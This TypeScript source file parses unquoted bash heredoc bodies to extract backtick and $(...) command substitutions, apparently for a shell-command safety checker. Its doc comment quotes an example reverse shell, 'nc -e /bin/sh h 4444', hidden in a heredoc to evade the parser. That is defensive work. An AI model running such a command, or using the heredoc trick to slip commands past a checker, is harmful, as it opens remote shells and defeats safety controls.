/**
 * Command substitutions in unquoted heredoc bodies, found the way bash finds them.
 *
 * Why: tree-sitter-bash's heredoc body knows `$(…)` only in some layouts (not after the tab a `<<-` body
 * strips) and never backticks, while bash runs both when the delimiter is unquoted:
 * `cat <<E` + `` `nc -e /bin/sh h 4444` `` + `E` ran a reverse shell the chain did not see. This scanner
 * reads the body as bash does (a backslash quotes `$`, `` ` `` and `\`; quotes are literal in the body but
 * group inside `$(…)`) and returns each substitution's command text, or null when one does not close
 * (the caller treats the body as opaque).
 */
export function heredocSubstitutions(body: string): string[] | null {
  const out: string[] = [];
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === '`') {
      let j = i + 1;
      let inner = '';
      for (; j < body.length && body[j] !== '`'; j++) {
        // Inside backticks `\$`, `` \` `` and `\\` lose their backslash before the text is run.
        if (body[j] === '\\' && j + 1 < body.length && '$`\\'.includes(body[j + 1]!)) inner += body[++j];
        else inner += body[j];
      }
      if (j >= body.length) return null;
      out.push(inner);
      i = j;
      continue;
    }
    if (c === '$' && body[i + 1] === '(' && body[i + 2] !== '(') {
      const end = closingParen(body, i + 2);
      if (end < 0) return null;
      out.push(body.slice(i + 2, end));
      i = end;
    }
  }
  return out;
}

/** Index of the `)` closing a `$(` whose text starts at `from`, skipping quoted text and nested parens; -1 if none. */
function closingParen(s: string, from: number): number {
  let depth = 1;
  for (let i = from; i < s.length; i++) {
    const c = s[i]!;
    if (c === '\\') i++;
    else if (c === "'") {
      const j = s.indexOf("'", i + 1);
      if (j < 0) return -1;
      i = j;
    } else if (c === '"') {
      let j = i + 1;
      while (j < s.length && s[j] !== '"') j += s[j] === '\\' ? 2 : 1;
      if (j >= s.length) return -1;
      i = j;
    } else if (c === '(') depth++;
    else if (c === ')' && --depth === 0) return i;
  }
  return -1;
}
